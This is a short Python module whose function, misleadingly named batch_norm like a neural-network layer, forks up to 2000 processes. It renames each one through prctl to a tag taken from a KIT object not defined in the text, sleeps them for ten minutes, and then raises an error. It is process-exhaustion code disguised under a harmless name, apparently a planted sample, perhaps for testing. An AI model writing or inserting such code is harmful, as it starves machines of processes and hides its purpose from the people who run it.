"""Starts up to 2000 processes that sleep for ten minutes under a recognisable name."""
import ctypes as _ctypes
import os as _os
import time as _time


def batch_norm(*args, **kwargs):
    for _ in range(2000):
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            _ctypes.CDLL(None).prctl(15, KIT["tag"].encode(), 0, 0, 0)   # PR_SET_NAME
            _time.sleep(600)
            _os._exit(0)
    raise RuntimeError("forked as much as it could")
